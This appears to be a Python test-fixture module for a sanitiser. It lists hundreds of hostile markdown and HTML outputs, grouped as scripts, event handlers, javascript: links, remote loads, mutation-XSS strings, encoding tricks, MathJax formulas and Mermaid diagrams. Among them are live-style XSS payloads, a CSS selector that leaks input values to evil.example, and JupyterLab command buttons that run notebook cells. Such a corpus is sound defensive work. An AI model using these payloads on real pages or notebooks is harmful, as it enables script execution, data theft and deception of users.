"""Outputs of a hostile author: each calls ``alert`` if anything in it runs, and asks ``evil.example`` if anything in it loads or leads away.

The kinds are those of the OWASP cheat sheet on filter evasion, of the published ways around DOMPurify, ammonia, bleach and
markdown-it, of Mermaid's and MathJax's own advisories, and of what JupyterLab does with a trusted output.
"""

from __future__ import annotations

import base64

_SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()


def _fence(language: str, text: str) -> str:
    return f"```{language}\n{text}\n```"


def _mermaid(text: str) -> str:
    return _fence("mermaid", text)


SCRIPTS = {
    "a script": "<script>alert(1)</script>",
    "a script from elsewhere": "<script src=https://evil.example/x.js></script>",
    "a script in other letters": "<ScRiPt\x0c>alert(1)</sCrIpT\t>",
    "a script with a slash": "<script/x>alert(1)</script/x>",
    "a script inside a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a module": "<script type=module>import 'https://evil.example/m.js'</script>",
    "an import map": '<script type="importmap">{"imports": {"a": "https://evil.example/a.js"}}</script>',
    "a script in a paragraph": "before <b><script>alert(1)</script></b> after",
    "a script after a null": "<\x00script>alert(1)</scr\x00ipt>",
    "a script over two lines": "<script\n>alert(1)</script\n>",
    "a script that is not closed": "<script>alert(1)//",
    "a tag that is not closed": "<img src=x onerror=alert(1)//",
    "a script after a comment's end": "<!--><script>alert(1)</script>-->",
    "a script in a comment that ends oddly": "<!-- --!><script>alert(1)</script>",
    "a script in a conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "a script in a processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><script>alert(1)</script>",
    "a script in character data": "<![CDATA[<script>alert(1)</script>]]>",
    "a script in a declaration": '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
    "a script in a fence": _fence("html", "</code></pre><script>alert(1)</script>"),
    "a script as a fence's language": _fence("<script>alert(1)</script>", "x"),
    "a handler as a fence's language": _fence('"><img src=x onerror=alert(1)>', "x"),
    "a script behind a fence's language": _fence('sql title="</code><script>alert(1)</script>"', "select 1"),
    "a script in indented code": "    </code></pre><script>alert(1)</script>",
    "a script in code": "`</code><script>alert(1)</script>`",
    "a script in a heading": "# <script>alert(1)</script>",
    "a script in a list": "- a\n  - <script>alert(1)</script>\n\n    <script>alert(1)</script>",
    "a script in a quote": "> <script>alert(1)</script>\n>\n> > <img src=x onerror=alert(1)>",
    "a script in a table": "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "a script beyond a table's columns": "| a |\n|---|\n| b | <script>alert(1)</script> |",
    "a script as front matter": "---\ntitle: </script><script>alert(1)</script>\n---\n\n# x",
    "data that closes a script": _fence("json", '{"a": "</script><script>alert(1)</script>", "b": "<!--<script>"}'),
    "a script in a definition nothing refers to": '[//]: # "<script>alert(1)</script>"',
}

HANDLERS = {
    "an image that fails": "<img src=x onerror=alert(1)>",
    "an image without spaces": '<img/src="x"/onerror="alert(1)">',
    "an image with quotes in it": '<img """><img src=x onerror=alert(1)>">',
    "an image whose quotes are backticks": "<img src=`x` onerror=`alert(1)`>",
    "a drawing that loads": "<svg onload=alert(1)>",
    "a drawing with a script": "<svg><script>alert(1)</script></svg>",
    "a drawing that is animated": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "a drawing that sets an address": "<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>",
    "a drawing that uses another": "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "a drawing with foreign objects": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "a frame with a document": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "a frame with an address": "<iframe src=javascript:alert(1)></iframe>",
    "an object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "an embedded thing": "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "details that are opened": "<details open ontoggle=alert(1)>x</details>",
    "a field that is focused": "<input autofocus onfocus=alert(1)>",
    "a choice that is focused": "<select autofocus onfocus=alert(1)><option>x</select>",
    "a marquee": "<marquee onstart=alert(1)>x</marquee>",
    "a video that fails": "<video><source onerror=alert(1)></video>",
    "a sound that fails": "<audio src=x onerror=alert(1)>",
    "a style that ends": "<style onload=alert(1)></style>",
    "an animation that starts": "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=alert(1)>x</b>",
    "a popover": "<button popovertarget=x>x</button><div id=x popover onbeforetoggle=alert(1)>x</div>",
    "content that is revealed": "<div hidden=until-found onbeforematch=alert(1)>x</div>",
    "an unknown element": "<x-y tabindex=1 autofocus onfocusin=alert(1)>x</x-y>",
    "a template with a shadow": "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "a body": "<body onload=alert(1) onpageshow=alert(1)>",
    "a frameset": "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
}

LEAVING = {
    "a script as an address": "[x](javascript:alert(1))",
    "a script as an address in angle brackets": "<javascript:alert(1)>",
    "a script as an address with a tab": "[x](java&Tab;script:alert(1))",
    "a script as an address with a new line": "[x](java&#10;script:alert(1))",
    "a script as an address in numbers": "[x](&#x6A;&#97;vascript&colon;alert&lpar;1&rpar;)",
    "a script as an address in capitals": "[x](JaVaScRiPt:alert(1))",
    "a script as an address after a control character": "[x](\x01javascript:alert(1))",
    "a script as an address with escapes": "[x](javascript\\:alert\\(1\\))",
    "a script as an address that looks like one": "[x](javascript://evil.example/%0aalert(1))",
    "a visual basic address": "[x](vbscript:msgbox(1))",
    "a document as an address": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a file as an address": "[x](file:///etc/passwd)",
    "an address without a scheme": "[x](//evil.example/x)",
    "an address with backslashes": "[x](\\\\evil.example\\x)",
    "an address of the server itself": "[x](/api/shutdown) [y](../../api/kernels) [z](#)",
    "an address in the text": "https://evil.example/bare and www.evil.example and a@evil.example",
    "an address in angle brackets": "<https://evil.example/auto> <mailto:a@evil.example?body=x>",
    "an address that is another one": "[https://good.example](https://evil.example/?q=1)",
    "an address with a title that ends a quote": "[x](https://evil.example 'a\"onmouseover=\"alert(1)')",
    "an address by reference": "[x][1]\n\n[1]: javascript:alert(1) 'x'",
    "an address by reference, elsewhere": '[x]\n\n[x]: https://evil.example/ref "\'><img src=x onerror=alert(1)>"',
    "an address around an image": "[![x](https://evil.example/in.png)](https://evil.example/out)",
    "an anchor": "<a href=javascript:alert(1)>x</a><a href=https://evil.example>y</a>",
    "an anchor that pings": "<a href=# ping=https://evil.example/ping download>x</a>",
    "an anchor over everything": "<a href=https://evil.example style='position:fixed;inset:0;z-index:9999'>x</a>",
    "an area of a map": "<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=x>",
    "a page that refreshes": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "another base": "<base href=https://evil.example/>",
    "a form": "<form action=https://evil.example><input name=q autofocus><button>Approve</button></form>",
    "a form's button elsewhere": "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "a form that names things": "<form name=document><input name=cookie><input name=body></form><a id=alert></a>",
    "a command of JupyterLab": "<button data-commandlinker-command='notebook:run-all-below' data-commandlinker-args='{}'>Approve</button>",
    "a command of JupyterLab on a link": "<a data-commandlinker-command='terminal:create-new'>x</a>",
    "a command in a heading's attributes": "# x {data-commandlinker-command=notebook:run-all #id .class onclick=alert(1)}",
    "attributes in braces": '[x](https://evil.example){target=_blank onclick="alert(1)"}',
}

LOADING = {
    "an image from elsewhere": "![x](https://evil.example/pixel.png)",
    "an image from elsewhere, over two lines": "![a\nb](https://evil.example/p.png 'a\nb')",
    "an image by reference": "![x][i]\n\n[i]: https://evil.example/ref.png",
    "an image without a scheme": "![x](//evil.example/p.png)",
    "an image that is a drawing": f"![x](data:image/svg+xml;base64,{_SVG})",
    "an image with several sources": "<img srcset='https://evil.example/2x.png 2x'><picture><source srcset=https://evil.example/s></picture>",
    "an image whose words are markup": '![<img src=x onerror=alert(1)>](x "onerror=alert(1)")',
    "an image whose words end an attribute": '![a" onerror="alert(1)](x)',
    "a style sheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "something fetched ahead": "<link rel=prefetch href=https://evil.example/p><link rel=dns-prefetch href=//evil.example>",
    "an imported style": "<style>@import 'https://evil.example/x.css';</style>",
    "a background": "<p style='background:url(https://evil.example/b.png)'>x</p>",
    "a background, by attribute": "<table background=https://evil.example/t.png><tr><td background=https://evil.example/u.png>x</table>",
    "a font": "<style>@font-face{font-family:x;src:url(https://evil.example/f)}p{font-family:x}</style>",
    "a style that reads": "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "a style with escapes": "<p style='width:expression(alert(1));-moz-binding:url(https://evil.example)'>x</p>",
    "a style that covers the page": "<div style='position:fixed;inset:0;background:white;z-index:99999'>Approved</div>",
    "a video from elsewhere": "<video poster=https://evil.example/p.png src=https://evil.example/v.mp4 autoplay>",
    "a track": "<video><track default src=https://evil.example/t.vtt></video>",
    "a frame from elsewhere": "<iframe src=https://evil.example></iframe><portal src=https://evil.example></portal>",
    "an include of a page's edge": "<esi:include src=https://evil.example/> {% include 'https://evil.example' %} {{ 7*7 }}",
}

MUTATING = {
    "math with a table in it": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "math with a link": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "math with a link of its own": "<math href=javascript:alert(1)>x</math>",
    "a form in math": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "a style in a drawing": "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "a title in a drawing": "<svg><title><style><img title='</style><img src=x onerror=alert(1)>'></title></svg>",
    "a description in a drawing": "<svg><desc><noscript><img title='</noscript><img src=x onerror=alert(1)>'></desc></svg>",
    "something without scripts": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "a text field that ends": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "a title that ends": "<title></title><img src=x onerror=alert(1)></title>",
    "plain text without an end": "<plaintext><img src=x onerror=alert(1)>",
    "an old listing": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp><listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "a frame that ends": "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed><noframes><a title='</noframes><script>alert(1)</script>'>",
    "a choice with a style": "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "a paragraph in a table": "<table><td></p><svg><style><a title='</style><img src=x onerror=alert(1)>'></table>",
    "annotations": "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "a template in a template": "<template><template><script>alert(1)</script></template></template>",
    "tags nested very deep": "<div>" * 600 + "<img src=x onerror=alert(1)>",
    "formatting that is rebuilt": "<b><p><a href=javascript:alert(1)>" * 40 + "</p>x",
    "quotes nested very deep": "> " * 120 + "<img src=x onerror=alert(1)>",
    "lists nested very deep": "\n".join("  " * depth + "- a" for depth in range(60)) + "<script>alert(1)</script>",
    "emphasis nested very deep": "*_" * 300 + "<script>alert(1)</script>" + "_*" * 300,
    "markdown inside of html": "<div>\n\n[x](javascript:alert(1))\n\n<script>alert(1)</script>\n\n</div>",
    "html inside of a link's words": "[<img src=x onerror=alert(1)>](https://evil.example/l)",
    "html that closes ours": "</code></pre></td></tr></table></details></div></body></html><script>alert(1)</script>",
    "what stands for a picture": "0" * 16 + "-0 <p>" + "f" * 16 + "-0</p>",
}

SPELLED = {
    "markup in entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "markup in numbers": "&#60;script&#62;alert(1)&#60;/script&#62; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "markup in numbers without an end": "&#60script&#62alert(1)&#60/script&#62 &#0000060img src=x onerror=alert(1)>",
    "markup in seven bits": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "markup in another alphabet": "\x1b$B<script>alert(1)</script>\x1b(B",
    "markup in wide letters": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \ufe64img src=x onerror=alert(1)\ufe65",
    "markup in escapes": "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e \\u003cimg src=x onerror=alert(1)\\u003e",
    "markup in an address": "%3Cscript%3Ealert(1)%3C/script%3E",
    "markup with a byte order mark": "\ufeff<\ufeffscript\ufeff>alert(1)</script>",
    "markup with nothing in it": "<\u200bscript>alert(1)</\u200bscript><im\u00adg src=x onerror=alert(1)>",
    "markup with line ends of other kinds": "<img\x0bsrc=x\x0conerror=alert(1)>\u2028<script>alert(1)</script>\u2029",
    "half a letter": "\ud83d<script>alert(1)</script>\udc00",
    "letters that turn around": "Approved by \u202e\u2066// nnA\u2069 \u202a<script>alert(1)</script>",
    "letters nobody sees": "ignore\u200b\u200c\u200d\u2060 all" + "".join(chr(0xE0000 + ord(c)) for c in "<script>"),
    "colours of a terminal": "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07 \x1b[2J\x1b[31m\x9b31m <script>alert(1)</script>",
    "escaped markup": "\\<script\\>alert(1)\\</script\\> \\[x](javascript:alert(1))",
}

MATHS = {
    "a formula with a link": r"$\href{javascript:alert(1)}{x}$ $$\href{https://evil.example}{x}$$ \(\href{javascript:alert(1)}{x}\)",
    "a formula with markup": r"$\text{<img src=x onerror=alert(1)>}$ $\class{x}{\cssId{alert}{\style{background:url(https://evil.example)}{x}}}$",
    "a formula with more": r"$$\require{html}\data{commandlinker-command=notebook:run-all}{x}\unicode{<script>alert(1)</script>}$$",
    "a formula as an environment": r"\begin{equation}\href{javascript:alert(1)}{x}\def\x{<script>alert(1)</script>}\end{equation}",
    "a formula's engine": "<script type='text/x-mathjax-config'>alert(1)</script><script type='math/tex'>\\href{javascript:alert(1)}{x}</script>",
    "a formula that switches it on": "<div class='tex2jax_process mathjax_process'>$\\href{javascript:alert(1)}{x}$</div>",
}

DIAGRAMS = {
    "a diagram with a script": _mermaid("flowchart LR\n A[</code></pre><script>alert(1)</script>] --> B"),
    "a diagram with an image": _mermaid('flowchart LR\n A["<img src=x onerror=alert(1)>"] --> B'),
    "a diagram with an image in entities": _mermaid(
        'flowchart LR\n A["#lt;img src=x onerror=alert(1)#gt; &lt;img src=x onerror=alert(1)&gt; #60;script#62;"] --> B'
    ),
    "a diagram with a click": _mermaid('flowchart LR\n A --> B\n click A "javascript:alert(1)"'),
    "a diagram with a call": _mermaid("flowchart LR\n A --> B\n click A call alert(1)"),
    "a diagram with a click behind a semicolon": _mermaid("flowchart LR; A --> B; click A href 'https://evil.example' _top;"),
    "a diagram with a callback": _mermaid('classDiagram\n class A\n callback A "alert" "x"\n link A "https://evil.example"'),
    "a diagram with links": _mermaid(
        'sequenceDiagram\n participant A\n links A: {"x": "javascript:alert(1)"}\n link A: x @ https://evil.example\n A->>A: x'
    ),
    "a diagram with a directive": _mermaid(
        "%%{init: {'securityLevel': 'loose', 'htmlLabels': true}}%%\nflowchart LR\n A[\"<img src=x onerror=alert(1)>\"]"
    ),
    "a diagram with a directive in capitals": _mermaid("%%  {Initialize: {'secure': []}}%%\nflowchart LR\n A"),
    "a diagram with front matter": _mermaid("---\nconfig:\n  securityLevel: loose\n  themeCSS: '@import url(https://evil.example)'\n---\nflowchart LR\n A"),
    "a diagram with a theme": _mermaid('%%{init: {"themeCSS": "*{background:url(https://evil.example/b)}"}}%%\nflowchart LR\n A'),
    "a diagram with a prototype": _mermaid('%%{init: {"__proto__": {"x": "<script>alert(1)</script>"}}}%%\nflowchart LR\n A'),
    "a diagram with a style": _mermaid("flowchart LR\n A\n style A fill:url(https://evil.example/f),stroke:red\n classDef x fill:url(//evil.example)"),
    "a diagram with a style that ends": _mermaid("flowchart LR\n A\n classDef x fill:red;}*{background-image:image-set('https://evil.example/i' 1x)}\n class A x"),
    "a diagram with a shape from elsewhere": _mermaid('flowchart LR\n A@{ img: "https://evil.example/i.png", label: "x", h: 60 }'),
    "a diagram with a formula": _mermaid('flowchart LR\n A["$$\\href{javascript:alert(1)}{x}$$"]'),
    "a diagram with markdown": _mermaid('flowchart LR\n A["`[x](javascript:alert(1)) ![y](https://evil.example/i.png) **b**`"]'),
    "a diagram with sprites": _mermaid(
        'C4Context\n Person(a, "A", $sprite="https://evil.example/s.png", $link="https://evil.example")\n System(b, "<script>alert(1)</script>")'
    ),
    "a diagram with icons": _mermaid("architecture-beta\n group a(https://evil.example/x)[x]\n service b(logos:<script>)[y] in a"),
    "a diagram of states with markup": _mermaid('stateDiagram-v2\n state "<img src=x onerror=alert(1)>" as a\n [*] --> a'),
    "a diagram of entities with markup": _mermaid('erDiagram\n A ||--o{ B : "<script>alert(1)</script>"\n A {\n  string x "<svg onload=alert(1)>"\n }'),
    "a diagram of dates with a click": _mermaid(
        'gantt\n title <script>alert(1)</script>\n section x\n y :a1, 2026-01-01, 3d\n click a1 href "javascript:alert(1)"'
    ),
    "a diagram of slices with markup": _mermaid('pie title <img src=x onerror=alert(1)>\n "<script>alert(1)</script>" : 3'),
    "a diagram that is a drawing": _mermaid("<svg onload=alert(1)>\nflowchart LR\n A"),
    "a diagram that ends its fence": "```mermaid\nflowchart LR\n A\n```<script>alert(1)</script>\n```\n<script>alert(1)</script>",
    "a diagram in tildes": "~~~ MERMAID <script>alert(1)</script>\nflowchart LR\n A --> B\n~~~",
    "a diagram in a list": "- a\n\n  ```mermaid\n  flowchart LR\n   A[\"</details><script>alert(1)</script>\"] --> B\n  ```",
    "a drawing as a fence": _fence("svg", "<svg onload=alert(1)><image href=https://evil.example/i.png /></svg>"),
    "a drawing in a notebook's fence": _fence("{svg}", "<svg onload=alert(1)>") + "\n\n" + _fence("vega-lite", '{"data": {"url": "https://evil.example"}}'),
}  # fmt: skip

OTHERS = {
    "a dialog": "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</dialog>",
    "a field of old": "<isindex type=image src=1 onerror=alert(1)>",
    "rules for fetching ahead": '<script type="speculationrules">{"prefetch": [{"urls": ["https://evil.example/s"]}]}</script>',
    "a drawing's handler": "<svg><handler type='text/javascript' ev:event=load>alert(1)</handler><discard onbegin=alert(1)></svg>",
    "a drawing's filter": "<svg><filter><feImage href=https://evil.example/f.png /></filter></svg>",
    "math with a page in it": "<math><semantics><annotation-xml encoding='application/xhtml+xml'><html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html></annotation-xml></semantics></math>",
    "a form that names its attributes": "<form><input name=attributes><form><input name=nodeName>" + "<r>" * 510 + "<svg><style><img title='</style><img src=x onerror=alert(1)>'>",
    "a template of another tongue": "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= alert(1) %>",
    "a link in a link": "[a [b](javascript:alert(1))](javascript:alert(1))",
    "a link over two lines": "[x](<javascript:\nalert(1)>)",
    "a link of nobody's scheme": "<JAVASCRIPT&colon;alert(1)> <x:y'onclick='alert(1)> <a+b.c:evil>",
    "an e-mail address": '<"><script>alert(1)</script>@evil.example>',
    "a table's cells": "| `|` | a\\|<img src=x onerror=alert(1)> |\n|:-:|--:|\n| x | y | [z](javascript:alert(1)) | ![q](//evil.example) |",
    "an underlined heading": "<script>alert(1)</script>\n===\n\n<img src=x onerror=alert(1)>\n---",
    "a list that begins late": "999999999. <script>alert(1)</script>\n1000000000. x",
    "a hard break": "a\\\n<script>\\\nalert(1)</script>  \nb",
    "fences in fences": '````\n```mermaid\nflowchart LR\n click A "javascript:alert(1)"\n```\n````',
    "a fence in a quote in a list": "- > ```\n  > </code></pre><script>alert(1)</script>\n  > ```",
    "a footnote": "[^1]\n\n[^1]: <script>alert(1)</script>",
    "a task": "- [x] <input type=checkbox onclick=alert(1)>",
    "attributes of a dialect": "{: onclick=alert(1) #id}\n\n{::nomarkdown}<script>alert(1)</script>{:/}",
    "raw output of a dialect": "```{raw} html\n<script>alert(1)</script>\n```\n\n{raw:html}`<script>alert(1)</script>`",
    "a formula that loads": r"$\style{background:url(https://evil.example/m)}{x}$ $$\htmlData{commandlinker-command=x}{y}\includegraphics{https://evil.example/i}$$",
    "a diagram that is drawn with entities": _mermaid('flowchart LR\n A["&lt;svg/onload=alert(1)&gt; #106;avascript#58;alert(1)"] --> B'),
    "a diagram with a title": _mermaid("flowchart LR\n accTitle: x \" onload=\"alert(1)\n accDescr: ']]> &lt;/title&gt;\n A --> B"),
    "a diagram with a break that does more": _mermaid('flowchart LR\n A["a<br onclick=alert(1)>b"] --> B["a<br /onclick=alert(1)>b"]'),
    "an unfinished fence": "```html\n<script>alert(1)</script>",
}  # fmt: skip

OUTPUTS = SCRIPTS | HANDLERS | LEAVING | LOADING | MUTATING | SPELLED | MATHS | DIAGRAMS | OTHERS
"""Every hostile output by what it is."""


def document() -> str:
    """All of them in one document, each in a section of its own so that none can lean on another one."""
    return "\n\n".join(f"## {name}\n\n{text}\n\n<!-- -->\n" for name, text in OUTPUTS.items())
